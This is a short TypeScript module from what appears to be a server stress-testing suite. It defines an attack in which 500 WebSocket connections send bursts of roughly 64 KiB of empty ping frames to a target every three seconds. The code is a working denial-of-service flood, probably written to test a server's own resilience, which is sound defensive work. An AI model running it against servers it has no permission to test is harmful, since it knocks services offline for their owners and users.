import { type Attack, frame, openSeveral, openWebSocket, repeat } from './attack.ts';

/** As much as one connection receives at once. */
const piece = Buffer.concat(Array.from({ length: 10_922 }, () => frame(9, Buffer.alloc(0))));

export const waves: Attack = {
  title: '500 WebSockets of a stranger send 64 KiB of empty pings at the same moment, every 3 s',
  hasPreparation: true,
  async run(target, signal, begun) {
    const sockets = await openSeveral(500, () => openWebSocket(target), signal);
    begun();
    const wave = async () => {
      for (const socket of sockets) {
        if (!socket.destroyed && socket.writableLength === 0) socket.write(piece);
      }
      await new Promise((resolve) => setTimeout(resolve, 3_000));
    };
    await repeat(1, wave, signal);
  },
};
